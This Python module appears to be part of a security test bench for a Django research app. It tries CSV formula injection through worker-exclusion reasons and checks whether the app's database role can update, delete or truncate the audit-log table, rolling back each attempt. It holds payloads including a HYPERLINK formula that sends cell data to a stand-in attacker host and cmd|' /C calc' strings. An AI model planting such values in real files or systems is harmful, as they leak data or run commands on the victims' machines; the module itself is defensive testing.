"""Attack: a researcher plants a spreadsheet formula in the audit log, or rewrites the log.

Two ways at the log (docs/audit.md):

  "formula in the CSV"  logged in as a researcher, exclude a worker on the workers page with a
                        reason typed as a formula (`=HYPERLINK("http://attacker/?"&A1,"open")`,
                        and the other starts a spreadsheet reads as one: + - @ tab, carriage
                        return), then download the audit CSV: a try succeeds when a cell of it
                        starts like a formula (the spreadsheet would run it on opening);
  "rewrite the table"   through the application's own database role (DATABASE_URL, the server's),
                        UPDATE, DELETE and TRUNCATE the log's table, each in a transaction that is
                        rolled back whatever happens (the attack never damages the log): a try
                        succeeds when the statement went through.

Setup (Django against the server's database, as the server runs it) makes the researcher, an owner
of the default team, and a worker to exclude.

    DATABASE_URL=... .venv/bin/python -m bench.attacks.audit_formula --base-url http://127.0.0.1:8810
"""

import argparse
import csv
import http.cookiejar
import io
import json
import re
import urllib.parse
import urllib.request
import uuid

NAME = "audit-formula"
CLAIM = "A researcher's typed reason runs as a formula in the audit CSV, or the app's database role rewrites the log."
FORMULAS = (
    '=HYPERLINK("http://attacker.invalid/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=HYPERLINK("http://attacker.invalid/","tab")',
    '\r=HYPERLINK("http://attacker.invalid/","cr")',
)
STATEMENTS = (
    "UPDATE audit_auditentry SET reason = 'rewritten'",
    "DELETE FROM audit_auditentry",
    "TRUNCATE audit_auditentry",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def setup(seed=0):
    from bench.attacks._common import django_ready

    django_ready()
    from django.contrib.auth.models import User

    from base.permissions import ensure_researcher_group
    from corpus.models import Worker
    from teams.models import Membership, Role, default_team

    tag = f"{seed}-{uuid.uuid4().hex[:8]}"
    password = f"audit-formula-{uuid.uuid4().hex}"
    researcher = User.objects.create_user(f"audit-formula-{tag}", password=password, is_staff=True)
    researcher.groups.add(ensure_researcher_group())
    Membership.objects.create(team=default_team(), user=researcher, role=Role.OWNER)
    participant = User.objects.create_user(f"audit-formula-worker-{tag}")
    worker = Worker.objects.create(user=participant, external_id=f"AF{uuid.uuid4().hex[:20]}")
    return {"username": researcher.username, "password": password, "worker": worker.pk}


class Browser:
    def __init__(self, base_url):
        self.base_url = base_url.rstrip("/")
        self.opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar()))

    def get(self, path):
        with self.opener.open(self.base_url + path, timeout=30) as response:
            return response.status, response.read().decode("utf-8", "replace")

    def post(self, path, fields, referer_path):
        data = urllib.parse.urlencode(fields, doseq=True).encode()
        request = urllib.request.Request(
            self.base_url + path, data=data, headers={"Referer": self.base_url + referer_path}
        )
        with self.opener.open(request, timeout=30) as response:
            return response.status, response.read().decode("utf-8", "replace")

    def csrf(self, path):
        _, text = self.get(path)
        found = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', text)
        return found.group(1) if found else ""

    def login(self, username, password):
        token = self.csrf("/accounts/login/")
        fields = {"csrfmiddlewaretoken": token, "username": username, "password": password}
        self.post("/accounts/login/", fields, "/accounts/login/")


def formula_cells(csv_text):
    """The cells of the CSV that a spreadsheet would read as a formula."""
    return [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row if cell.startswith(FORMULA_STARTS)]


def rewrite_tries():
    """Each statement through the app's role, rolled back: [(statement, went through, detail)]."""
    from django.db import DatabaseError, connection, transaction

    class RolledBack(Exception):
        pass

    results = []
    for statement in STATEMENTS:
        try:
            with transaction.atomic():
                with connection.cursor() as cursor:
                    cursor.execute(statement)
                raise RolledBack
        except RolledBack:
            results.append((statement, True, "went through (rolled back by the attack)"))
        except DatabaseError as error:
            results.append((statement, False, str(error).splitlines()[0][:120]))
    return results


def run(base_url, *, seed=0):
    made = setup(seed)
    browser = Browser(base_url)
    browser.login(made["username"], made["password"])
    notes = []
    for number, formula in enumerate(FORMULAS):
        token = browser.csrf("/dashboard/workers/")
        action = "exclude" if number % 2 == 0 else "include"
        status, _ = browser.post(
            "/dashboard/workers/exclusion/",
            {"csrfmiddlewaretoken": token, "action": action, "worker": made["worker"], "reason": formula},
            "/dashboard/workers/",
        )
        notes.append(f"{action}: {status}")
    _, csv_text = browser.get("/dashboard/audit/log.csv")
    typed = [
        row for row in csv.reader(io.StringIO(csv_text)) if any("attacker.invalid" in c or "calc" in c for c in row)
    ]
    planted = formula_cells(csv_text)
    csv_tries = len(FORMULAS)
    csv_succeeded = min(csv_tries, len(planted))
    rewrites = rewrite_tries()
    rewrite_succeeded = sum(1 for _, through, _ in rewrites if through)
    n = csv_tries + len(rewrites)
    succeeded = csv_succeeded + rewrite_succeeded
    from bench.attacks._common import wilson_interval

    return {
        "attack": NAME,
        "tries": n,
        "succeeded": succeeded,
        "measure": "share of tries that put a running formula in the audit CSV or rewrote the log",
        "value": round(succeeded / n, 4),
        "interval": wilson_interval(succeeded, n),
        # The reasons must have reached the log (else the CSV proves nothing): refused only when
        # they are there, as text.
        "at_chance_or_refused": succeeded == 0 and len(typed) >= 1,
        "detail": f"rows carrying the typed reasons {len(typed)}, formula cells {len(planted)}; "
        + "; ".join(f"{statement.split()[0]}: {detail}" for statement, _, detail in rewrites)
        + "; posts "
        + ", ".join(dict.fromkeys(notes)),
    }


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--base-url", default="http://127.0.0.1:8000")
    parser.add_argument("--seed", type=int, default=0)
    args = parser.parse_args()
    print(json.dumps(run(args.base_url, seed=args.seed), indent=2))


if __name__ == "__main__":
    main()
